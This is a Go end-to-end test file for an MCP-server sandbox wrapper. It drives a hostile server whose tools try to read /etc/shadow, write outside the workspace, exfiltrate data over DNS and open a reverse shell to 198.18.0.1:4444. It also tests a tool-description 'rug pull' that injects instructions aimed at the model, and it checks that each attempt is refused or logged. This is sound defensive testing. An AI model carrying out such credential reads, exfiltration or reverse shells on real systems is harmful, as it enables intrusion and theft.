@@ -1,0 +1,330 @@
+package main
+
+import (
+	"context"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/watcherhq/watcher/internal/audit"
+	"github.com/watcherhq/watcher/internal/e2etest"
+)
+
+// mcpServersDir is where scripts/setup.sh installs the npm MCP servers.
+const mcpServersDir = "/var/cache/watcher/mcp-servers/node_modules/@modelcontextprotocol"
+
+// mcpWrapSession connects the official Go SDK client to `watcher mcp wrap
+// ARGS` (the client spawns it, as .mcp.json makes Claude Code do).
+func mcpWrapSession(t *testing.T, ctx context.Context, opts *mcp.ClientOptions, env []string, args ...string) *mcp.ClientSession {
+	t.Helper()
+	cmd := exec.Command(watcherBinary(t), append([]string{"mcp", "wrap"}, args...)...)
+	cmd.Env = append(os.Environ(), env...)
+	log := &e2etest.SafeBuffer{}
+	cmd.Stderr = log
+	client := mcp.NewClient(&mcp.Implementation{Name: "watcher-test", Version: "1"}, opts)
+	sess, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
+	if err != nil {
+		t.Fatalf("connect through watcher mcp wrap: %v\n%s", err, log)
+	}
+	t.Cleanup(func() {
+		sess.Close()
+		if t.Failed() {
+			t.Logf("watcher mcp wrap stderr:\n%s", log)
+		}
+	})
+	return sess
+}
+
+func toolNames(t *testing.T, ctx context.Context, s *mcp.ClientSession) map[string]bool {
+	t.Helper()
+	res, err := s.ListTools(ctx, nil)
+	if err != nil {
+		t.Fatalf("tools/list: %v", err)
+	}
+	out := map[string]bool{}
+	for _, tl := range res.Tools {
+		out[tl.Name] = true
+	}
+	return out
+}
+
+// callText calls a tool and returns its text content and isError.
+func callText(t *testing.T, ctx context.Context, s *mcp.ClientSession, name string, args map[string]any) (string, bool) {
+	t.Helper()
+	res, err := s.CallTool(ctx, &mcp.CallToolParams{Name: name, Arguments: args})
+	if err != nil {
+		t.Fatalf("tools/call %s: protocol error %v (a refusal must be a result)", name, err)
+	}
+	var b strings.Builder
+	for _, c := range res.Content {
+		if tc, ok := c.(*mcp.TextContent); ok {
+			b.WriteString(tc.Text)
+			b.WriteString("\n")
+		}
+	}
+	return b.String(), res.IsError
+}
+
+func wantIn(t *testing.T, what, got string, want ...string) {
+	t.Helper()
+	for _, w := range want {
+		if !strings.Contains(got, w) {
+			t.Errorf("%s: want %q in:\n%s", what, w, got)
+		}
+	}
+}
+
+// TestMCPWrapHostile runs a hostile MCP server (testdata/mcp) under
+// watcher mcp wrap, driven by the official Go SDK client: each thing it
+// tries is refused by the policy or the kernel, or recorded, the model
+// reads why, and the client keeps working; its kernel events carry the
+// call's label; a changed tool description is hidden and refused, in the
+// session and in the next, until accepted.
+func TestMCPWrapHostile(t *testing.T) {
+	py, err := exec.LookPath("python3")
+	if err != nil {
+		t.Skip("python3 not installed: the hostile server is a Python script")
+	}
+	tb := newTestbed(t, `    tools:
+      mcp:
+        max_result_bytes: 65536
+        rules:
+          - {tool: echo, action: allow, arguments: {text: {max_bytes: 64}}}
+          - {tool: junk, action: deny}
+          - {tool: "*", action: allow}
+`, "{enabled: false}")
+	server, _ := filepath.Abs("testdata/mcp/hostile_server.py")
+	outside := filepath.Join(filepath.Dir(tb.ws), "outside-"+strconv.Itoa(os.Getpid()))
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+
+	changed := make(chan struct{}, 4)
+	opts := &mcp.ClientOptions{ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) { changed <- struct{}{} }}
+	s := mcpWrapSession(t, ctx, opts, nil, "--policy", tb.policy, "--", py, server)
+
+	names := toolNames(t, ctx, s)
+	if !names["echo"] || !names["weather"] || !names["read_credentials"] {
+		t.Fatalf("tools/list lost allowed tools: %v", names)
+	}
+	if names["junk"] {
+		t.Errorf("tools/list shows junk, which the policy denies: %v", names)
+	}
+
+	// Allowed, then the argument constraint (the policy's, not the kernel's).
+	if txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": "hi"}); isErr || strings.TrimSpace(txt) != "hi" {
+		t.Errorf("echo: %q isError=%v", txt, isErr)
+	}
+	// The first call made the server change weather's description.
+	select {
+	case <-changed:
+	case <-time.After(10 * time.Second):
+		t.Error("no notifications/tools/list_changed passed on")
+	}
+	txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": strings.Repeat("x", 100)})
+	if !isErr {
+		t.Errorf("echo of 100 bytes passed the policy's max_bytes 64: %q", txt)
+	}
+	wantIn(t, "echo over max_bytes", txt, "over the policy's 64", "rule: mcp:echo", "to allow it")
+
+	// The rug pull: weather's description now carries instructions.
+	names = toolNames(t, ctx, s)
+	if names["weather"] {
+		t.Error("weather is still listed after its description changed")
+	}
+	txt, isErr = callText(t, ctx, s, "weather", map[string]any{"city": "Oslo"})
+	if !isErr {
+		t.Errorf("weather called after a rug pull: %q", txt)
+	}
+	wantIn(t, "rug pull", txt, "changed since it was approved", "rule: mcp:pin", "--accept-changes")
+
+	// Denied by the policy even when the client calls it unlisted.
+	txt, isErr = callText(t, ctx, s, "junk", nil)
+	if !isErr {
+		t.Errorf("junk ran: %q", txt)
+	}
+	wantIn(t, "denied tool", txt, "the policy denies tool", "rule: mcp:junk")
+
+	// Credentials: refused by the kernel, and the model reads the summary.
+	txt, _ = callText(t, ctx, s, "read_credentials", nil)
+	wantIn(t, "read_credentials", txt, "shadow failed", "the kernel refused", "/etc/shadow", "cred-shadow")
+
+	txt, _ = callText(t, ctx, s, "write_outside", map[string]any{"path": outside})
+	wantIn(t, "write_outside", txt, "write failed", outside)
+	if _, err := os.Stat(outside); err == nil {
+		os.Remove(outside)
+		t.Errorf("the server wrote %s outside its workspace", outside)
+	}
+	txt, _ = callText(t, ctx, s, "dns_exfil", map[string]any{"data": "s3cret"})
+	wantIn(t, "dns_exfil", txt, "dns failed")
+	txt, _ = callText(t, ctx, s, "reverse_shell", map[string]any{"host": "198.18.0.1", "port": "4444"})
+	wantIn(t, "reverse_shell", txt, "reverse shell failed")
+
+	// Floods: a result over the cap is cut, a message over the frame cap
+	// dropped; both answered.
+	txt, _ = callText(t, ctx, s, "flood", map[string]any{"n": 1 << 20})
+	if len(txt) > 70000 {
+		t.Errorf("flood result is %d bytes, over the 65536 cap", len(txt))
+	}
+	wantIn(t, "flood", txt, "over the cap of 65536")
+	txt, isErr = callText(t, ctx, s, "flood_frame", map[string]any{"n": 9 << 20})
+	if !isErr {
+		t.Error("flood_frame: no error result")
+	}
+	wantIn(t, "flood_frame", txt, "over the cap of 4194304", "dropped")
+
+	// The client keeps working.
+	if txt, isErr := callText(t, ctx, s, "echo", map[string]any{"text": "still here"}); isErr || !strings.Contains(txt, "still here") {
+		t.Errorf("echo after the hostile calls: %q isError=%v", txt, isErr)
+	}
+	s.Close()
+
+	// Next session: the changed definition is still refused (pinned on
+	// disk), until the user accepts it.
+	s2 := mcpWrapSession(t, ctx, nil, []string{"HOSTILE_RUG_PULL=1"}, "--policy", tb.policy, "--", py, server)
+	if toolNames(t, ctx, s2)["weather"] {
+		t.Error("a new session lists the changed weather tool")
+	}
+	s2.Close()
+	s3 := mcpWrapSession(t, ctx, nil, []string{"HOSTILE_RUG_PULL=1"}, "--policy", tb.policy, "--accept-changes", "--", py, server)
+	if !toolNames(t, ctx, s3)["weather"] {
+		t.Error("--accept-changes did not approve the changed weather tool")
+	}
+	if txt, isErr := callText(t, ctx, s3, "weather", map[string]any{"city": "Oslo"}); isErr {
+		t.Errorf("weather after --accept-changes: %q", txt)
+	}
+	s3.Close()
+
+	// The ledger: requests, decisions, results, pins; the kernel's refusal
+	// of /etc/shadow carries the label of the call that caused it.
+	evs := ledgerEvents(t, tb.ledger)
+	var credLabel string
+	stages := map[string]int{}
+	pinChanged := false
+	for _, e := range evs {
+		if e.Kind != audit.KindTool || e.Mechanism != "mcp-wrap" || e.Tool == nil {
+			continue
+		}
+		stages[e.Tool.Stage]++
+		if e.Tool.Tool == "read_credentials" && e.Tool.Stage == "result" {
+			credLabel = e.Sandbox.Labels["label"]
+		}
+		if e.Tool.Stage == "pin" && e.Tool.Decision == "changed" && e.Tool.Tool == "weather" {
+			pinChanged = true
+			wantIn(t, "pin record", e.Tool.Reason, "IMPORTANT", "was:")
+		}
+	}
+	for _, st := range []string{"request", "decision", "result", "pin"} {
+		if stages[st] == 0 {
+			t.Errorf("no %s records of mcp wrap in the ledger (have %v)", st, stages)
+		}
+	}
+	if !pinChanged {
+		t.Error("the rug pull is not recorded")
+	}
+	if !strings.Contains(credLabel, ".call-") {
+		t.Fatalf("read_credentials' result carries label %q, want SESSION.call-N", credLabel)
+	}
+	found := false
+	for _, e := range evs {
+		if e.Kind != audit.KindTool && e.Sandbox.Labels["label"] == credLabel && strings.Contains(detailText(&e), "/etc/shadow") {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("no kernel event of /etc/shadow labelled %s in the ledger", credLabel)
+	}
+}
+
+// TestMCPWrapFilesystem runs the reference filesystem server from npm
+// under watcher mcp wrap: its workspace works; /etc/shadow, which the
+// server itself would serve (it is given /etc), is refused by the kernel
+// and the model reads the summary.
+func TestMCPWrapFilesystem(t *testing.T) {
+	entry := filepath.Join(mcpServersDir, "server-filesystem", "dist", "index.js")
+	node, err := exec.LookPath("node")
+	if err != nil {
+		t.Skip("node not installed (scripts/setup.sh installs it)")
+	}
+	if _, err := os.Stat(entry); err != nil {
+		t.Skip("@modelcontextprotocol/server-filesystem not installed in " + mcpServersDir + " (scripts/setup.sh installs it)")
+	}
+	tb := newTestbed(t, "", "{enabled: false}")
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	s := mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--", node, entry, tb.ws, "/etc")
+	names := toolNames(t, ctx, s)
+	if !names["write_file"] || !names["read_text_file"] {
+		t.Fatalf("tools/list: %v", names)
+	}
+	note := filepath.Join(tb.ws, "note.txt")
+	if txt, isErr := callText(t, ctx, s, "write_file", map[string]any{"path": note, "content": "caged\n"}); isErr {
+		t.Fatalf("write_file in the workspace: %s", txt)
+	}
+	if b, _ := os.ReadFile(note); string(b) != "caged\n" {
+		t.Errorf("the workspace file holds %q", b)
+	}
+	if txt, isErr := callText(t, ctx, s, "read_text_file", map[string]any{"path": note}); isErr || !strings.Contains(txt, "caged") {
+		t.Errorf("read_text_file in the workspace: %q isError=%v", txt, isErr)
+	}
+	txt, isErr := callText(t, ctx, s, "read_text_file", map[string]any{"path": "/etc/shadow"})
+	if !isErr {
+		t.Errorf("/etc/shadow was read: %q", txt)
+	}
+	wantIn(t, "/etc/shadow", txt, "the kernel refused", "/etc/shadow", "cred-shadow")
+	if txt, isErr := callText(t, ctx, s, "read_text_file", map[string]any{"path": "/etc/hostname"}); isErr {
+		t.Errorf("/etc/hostname (readable under the preset): %q", txt)
+	}
+}
+
+// TestMCPWrapEverything runs the reference everything server from npm,
+// over stdio under the cage and over Streamable HTTP with --url.
+func TestMCPWrapEverything(t *testing.T) {
+	entry := filepath.Join(mcpServersDir, "server-everything", "dist", "index.js")
+	node, err := exec.LookPath("node")
+	if err != nil {
+		t.Skip("node not installed (scripts/setup.sh installs it)")
+	}
+	if _, err := os.Stat(entry); err != nil {
+		t.Skip("@modelcontextprotocol/server-everything not installed in " + mcpServersDir + " (scripts/setup.sh installs it)")
+	}
+	tb := newTestbed(t, `    tools:
+      mcp:
+        rules:
+          - {tool: echo, action: allow}
+          - {tool: get-sum, action: allow}
+`, "{enabled: false}")
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	check := func(s *mcp.ClientSession, how string) {
+		names := toolNames(t, ctx, s)
+		if !names["echo"] || len(names) != 2 {
+			t.Errorf("%s: tools/list shows %v, want echo and get-sum only", how, names)
+		}
+		txt, isErr := callText(t, ctx, s, "echo", map[string]any{"message": "through the cage"})
+		if isErr || !strings.Contains(txt, "through the cage") {
+			t.Errorf("%s: echo: %q isError=%v", how, txt, isErr)
+		}
+		txt, isErr = callText(t, ctx, s, "get-env", nil)
+		if !isErr {
+			t.Errorf("%s: get-env (no rule) ran: %q", how, txt)
+		}
+		wantIn(t, how+": get-env", txt, "default-deny")
+	}
+	check(mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--", node, entry, "stdio"), "stdio")
+
+	port := e2etest.FreePort(t)
+	srv := exec.Command(node, entry, "streamableHttp")
+	srv.Env = append(os.Environ(), "PORT="+strconv.Itoa(port))
+	p := e2etest.Start(t, srv)
+	url := "http://127.0.0.1:" + strconv.Itoa(port) + "/mcp"
+	if err := p.WaitReady(30*time.Second, func() bool { return strings.Contains(p.Log.String(), "listening") }); err != nil {
+		t.Fatalf("everything server over HTTP: %v\n%s", err, p.Log)
+	}
+	check(mcpWrapSession(t, ctx, nil, nil, "--policy", tb.policy, "--url", url), "--url")
+}
